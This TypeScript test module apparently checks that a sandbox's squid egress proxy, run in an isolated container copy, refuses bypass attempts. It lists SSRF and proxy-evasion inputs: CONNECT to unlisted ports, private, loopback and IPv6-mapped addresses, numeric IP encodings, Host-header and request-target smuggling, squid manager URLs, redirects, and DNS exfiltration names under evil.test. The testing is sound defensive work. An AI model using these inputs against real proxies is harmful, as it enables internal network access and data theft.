import { readFile } from "node:fs/promises";
import { setTimeout as pause } from "node:timers/promises";
import { execInInstance } from "../../../server/seats/incus/exec.ts";
import { findInstance } from "../../../server/seats/incus/instance.ts";
import { pushFile } from "../../../server/seats/incus/push-file.ts";
import { setInstanceState } from "../../../server/seats/incus/set-state.ts";
import { incusCall } from "../../../server/seats/incus/wait-operation.ts";
import { DENIED_SYSCALLS } from "../../../server/seats/seat-syscalls.ts";
import { servicesFiles, servicesImage } from "../../../setup/services-image/services-image.ts";
import { SERVICES } from "../../../setup/services/ensure-services.ts";
import { allowLists } from "../../../setup/services/allow-lists.ts";
import { squidRules } from "../../../setup/services/squid-rules.ts";
import { layout } from "../../../setup/seat-host/layout.ts";
import type { Attack, Verdict } from "../attack.ts";
import type { Ground } from "../ground.ts";
import { judgeClaims } from "../judge.ts";
import { newInstanceName } from "../realm.ts";
import { perl } from "./scripts.ts";

/*
 * The egress proxy is attacked in a copy of the services instance that has no network at all: every address that its
 * squid could be tricked into is on the copy's own loopback, and so is the name server that it asks.
 */

const PUBLIC = "198.51.100.7";
const PRIVATE = "10.1.2.3";
const CLIENT = "10.78.0.99";
/** The first is listed both ways, the next two each one way. */
const names = {
  "listed.test": PUBLIC,
  "plain.test": PUBLIC,
  "tunnel.test": PUBLIC,
  "rebound.test": PRIVATE,
  "loop.test": "127.0.0.1",
  "six.test": "fd00::7",
  "mapped.test": `::ffff:${PRIVATE}`,
};

const NO_SETTINGS = { OFFLINE: "yes" as const, REGISTRY: "", PACKAGE_INDEX: "", DOWNLOAD_HOSTS: [] };

const nginxConf = `user www-data; worker_processes 1; pid /run/doctor.pid; error_log /dev/null;
events { worker_connections 64; }
http { access_log off; server {
  listen ${PUBLIC}:80; listen ${PUBLIC}:443; listen ${PUBLIC}:8080; listen ${PUBLIC}:22;
  listen ${PRIVATE}:80; listen ${PRIVATE}:443; listen ${PRIVATE}:5000; listen [fd00::7]:80; listen [fd00::7]:443; listen 127.0.0.1:443;
  location = /redirect { return 302 http://${PRIVATE}/; }
  location / { return 200 "reached $server_addr:$server_port\\n"; }
} }`;

/** Answers no name, and writes down which it was asked for. */
const nameServer =
  perl(`use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; bind($s, sockaddr_in(53, INADDR_LOOPBACK)) or die $!;
  open(my $log, ">>", "/tmp/names"); select($log); $| = 1;
  while (my $who = recv($s, my $q, 600, 0)) { my ($n, $at) = ("", 12);
    while ((my $l = ord substr($q, $at, 1)) > 0) { $n .= substr($q, $at + 1, $l) . "."; $at += $l + 1 } print "$n\\n";
    send($s, substr($q, 0, 2) . pack("n5", 0x8183, 1, 0, 0, 0) . substr($q, 12), 0, $who) }`);

const HOSTS = `127.0.0.1 localhost\n${Object.entries({
  ...names,
  "settings.test": PRIVATE,
  "mirror.test": PRIVATE,
})
  .map(([name, address]) => `${address} ${name}\n`)
  .join("")}`;

const START = `for address in ${PUBLIC}/32 ${PRIVATE}/32 ${CLIENT}/32; do ip address add $address dev lo; done
ip -6 address add fd00::7/128 dev lo; ip link set lo up
echo 'nameserver 127.0.0.1' > /etc/resolv.conf
setsid ${nameServer} > /dev/null 2>&1 < /dev/null &
nginx -c /root/doctor.conf -g 'daemon on;'
sleep 0.5`;

/** Squid makes its folders first, which takes its time on a machine that is busy. */
const PATIENCE_MS = 60_000;

interface Copy {
  /** Runs a script in the copy; `$proxy` fetches through squid as a seat would, printing the status. */
  ask(script: string): Promise<string>;
}

const copies = new WeakMap<Ground, Promise<Copy | null>>();

function openCopy(ground: Ground): Promise<Copy | null> {
  const known = copies.get(ground);
  if (known !== undefined) return known;
  const made = makeCopy(ground);
  copies.set(ground, made);
  // The next one that needs it may have more luck.
  made.catch(() => void copies.delete(ground));
  return made;
}

/** Cleared away by the sweeper. Null when we are not root. */
async function makeCopy(ground: Ground): Promise<Copy | null> {
  if (ground.machine === null) return null;
  const { root } = ground.machine;
  const name = newInstanceName();
  const alias = (await findInstance(root, SERVICES))?.instance.config["user.drydock.image"];
  if (alias === undefined) return null;
  await incusCall(root, "POST", "/1.0/instances", {
    body: {
      name,
      type: "container",
      profiles: [],
      source: { type: "image", alias },
      config: {
        "boot.autostart": "false",
        "security.idmap.isolated": "true",
        "security.guestapi": "false",
        "limits.memory": "512MiB",
        "limits.processes": "200",
        "security.syscalls.deny": DENIED_SYSCALLS,
        "environment.SEATS_ADDRESS": `${CLIENT}/32`,
        "environment.OUT_ADDRESS": `${PUBLIC}/32`,
        "environment.OUT_GATEWAY": PUBLIC,
        "environment.OUT_DNS": "127.0.0.1",
      },
      devices: { root: { type: "disk", path: "/", pool: layout.pool, size: "3GiB" } },
    },
    operationTimeoutMs: 120_000,
  });
  for (const { name: file, target } of servicesFiles)
    await pushFile(root, name, target, await readFile(`${servicesImage.recipe}/${file}`, "utf8"), 0o755);
  const rules = squidRules([
    { host: "settings.test", port: 5000, way: "plain" },
    // A mirror of apt's, as a machine names it.
    ...allowLists(NO_SETTINGS, ["http://mirror.test"]).configured,
  ]);
  await pushFile(root, name, "/etc/drydock/configured.conf", rules);
  const listed = (without: string) =>
    Object.keys(names)
      .flatMap((one) => (one === without ? [] : `${one}\n`))
      .join("");
  await pushFile(root, name, "/etc/drydock/public-plain", listed("tunnel.test"));
  await pushFile(root, name, "/etc/drydock/public-tunnel", listed("plain.test"));
  await pushFile(root, name, "/root/doctor.conf", nginxConf);
  // Squid reads it when it starts.
  await pushFile(root, name, "/etc/hosts", HOSTS);
  await setInstanceState(root, name, "start");
  const run = async (script: string) => {
    const result = await execInInstance(root, name, ["sh", "-c", script], {
      timeoutMs: 60_000,
      maxOutputBytes: 64 * 1024,
    });
    return result.stdout;
  };
  await run(START);
  const fetch = `proxy() { curl -s -m 8 --noproxy '' --interface ${CLIENT} --proxy http://${CLIENT}:${layout.proxyPort} -w ' %{http_connect}/%{http_code}\\n' "$@" | tail -n 1; }\n`;
  const copy = { ask: (script: string) => run(fetch + script) };
  const works = () => copy.ask("proxy http://listed.test/");
  const deadline = Date.now() + PATIENCE_MS;
  while (!(await works()).includes("/200")) {
    if (Date.now() > deadline) {
      const seen = "tail -n 3 /var/log/squid/*.log /var/log/services-init.log; ss -tln";
      throw new Error(`the proxy's copy does not serve: ${await copy.ask(seen)}`);
    }
    await pause(500);
  }
  return copy;
}

/** `allowed` are the controls; each address of `tricks` must be refused and reach nobody. */
async function refuses(
  ground: Ground,
  allowed: readonly string[],
  tricks: readonly string[],
): Promise<Verdict> {
  const copy = await openCopy(ground);
  if (copy === null)
    return { skipped: "a copy of the proxy can only be put up by root on the machine of the seat host" };
  const works = (await copy.ask(allowed.map((one) => `proxy ${one}`).join("\n"))).trim().split("\n");
  const claims: Record<string, boolean> = {};
  for (const [index, one] of allowed.entries())
    claims[`what is allowed works: ${one}`] = /(?:200)\s*$/.test(works[index] ?? "");
  const tried = await Promise.all(tricks.map((one) => copy.ask(`proxy ${one}`)));
  for (const [index, one] of tricks.entries()) {
    const said = tried[index]?.trim() ?? "";
    const code = /\d+\/\d+$/.exec(said)?.[0] ?? "nothing";
    claims[`refused (${code}): ${one}`] = !said.includes("reached") && !/200\/|\/200/.test(said);
  }
  return judgeClaims(claims);
}

const from = "a seat's root";
const expects =
  "The proxy lets listed names through, on their own ports, to addresses that are public; nothing else.";
/** The copy takes some seconds to come up. */
const seconds = 120;

export const proxy: readonly Attack[] = [
  {
    id: "proxy/connect",
    title: "CONNECT to other ports and other hosts",
    from,
    expects,
    seconds,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/", "-p http://listed.test:443/"],
        [
          "-p http://listed.test:22/",
          "-p http://listed.test:8080/",
          "-p http://listed.test:80/",
          "http://listed.test:8080/",
          `-p http://${PRIVATE}:443/`,
          `-p http://${PUBLIC}:443/`,
          "-p http://127.0.0.1:443/",
          `-p http://127.0.0.1:${layout.proxyPort}/`,
          "-p http://settings.test:5000/",
        ],
      ),
  },
  {
    id: "proxy/own-ports",
    title: "A host that is listed for plain HTTP by CONNECT, and one that is listed for HTTPS in the plain",
    from,
    expects:
      "Each host is reached in its own way on its own port: a mirror on port 80 does not open CONNECT 443.",
    seconds,
    run: (ground) =>
      refuses(
        ground,
        [
          "http://plain.test/",
          "-p http://tunnel.test:443/",
          "http://mirror.test/",
          "-p http://listed.test:443/",
        ],
        [
          "-p http://plain.test:443/",
          "-p http://plain.test:80/",
          "http://tunnel.test/",
          "http://tunnel.test:443/",
          "-p http://mirror.test:443/",
          "-p http://mirror.test:80/",
          "http://mirror.test:443/",
          "--request-target 'https://plain.test/' http://plain.test/",
          "--request-target 'https://tunnel.test/' http://tunnel.test/",
          "--request-target 'ftp://plain.test/' http://plain.test/",
        ],
      ),
  },
  {
    id: "proxy/private-names",
    title: "A listed name that resolves to a private address",
    from,
    expects,
    seconds,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/", "http://settings.test:5000/"],
        [
          "http://rebound.test/",
          "http://loop.test/",
          "-p http://rebound.test:443/",
          "-p http://loop.test:443/",
          "http://settings.test/",
          "-p http://settings.test:443/",
        ],
      ),
  },
  {
    id: "proxy/ipv6",
    title: "IPv6: literals, mapped addresses, names that have only such an address",
    from,
    expects,
    seconds,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/"],
        [
          "'http://[fd00::7]/'",
          "-p 'http://[fd00::7]:443/'",
          "http://six.test/",
          `'http://[::ffff:${PRIVATE}]/'`,
          "http://mapped.test/",
          "'http://[::1]/'",
        ],
      ),
  },
  {
    id: "proxy/redirects",
    title: "A listed server that redirects to a private address",
    from,
    expects,
    seconds,
    run: (ground) => refuses(ground, ["http://listed.test/"], ["-L http://listed.test/redirect"]),
  },
  {
    id: "proxy/confusion",
    title: "Names and requests that read one way and mean another",
    from,
    expects,
    seconds,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/", "http://LISTED.test./ -o /dev/null -w '/200'"],
        [
          `-H 'Host: listed.test' http://${PRIVATE}/`,
          `http://listed.test@${PRIVATE}/`,
          `http://${PRIVATE}/listed.test/`,
          "http://listed.test.evil.test/",
          "http://evillisted.test/",
          "http://167838211/",
          "http://0x0a.0x01.0x02.0x03/",
          `--request-target 'http://${PRIVATE}/' http://listed.test/`,
          `--request-target '//${PRIVATE}/' -H 'Host: ${PRIVATE}' http://listed.test/`,
          "--request-target 'cache_object://127.0.0.1/info' http://listed.test/",
          `http://${CLIENT}:${layout.proxyPort}/squid-internal-mgr/info`,
        ],
      ),
  },
  {
    id: "proxy/name-tunnel",
    title: "Tell secrets by the names that the proxy looks up",
    from,
    expects: "A name that is not on the list is refused without being looked up.",
    seconds,
    run: async (ground) => {
      const copy = await openCopy(ground);
      if (copy === null)
        return { skipped: "a copy of the proxy can only be put up by root on the machine of the seat host" };
      const said = await copy.ask(
        `proxy http://secret-one.evil.test/; proxy -p http://secret-two.evil.test:443/; proxy http://x.secret-three.listed.test/
        ${perl(`use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0); send($s, pack("n6", 1, 256, 1, 0, 0, 0) . "\\x07control\\x00\\x00\\x01\\x00\\x01", 0, sockaddr_in(53, INADDR_LOOPBACK));`)}
        sleep 1; cat /tmp/names`,
      );
      return judgeClaims({
        "the doctor's name server is there and writes down what it is asked": said.includes("control."),
        "it was not asked for a name of the attacker's": !/secret/.test(said.replace(/^.*HTTP.*$/gm, "")),
      });
    },
  },
];
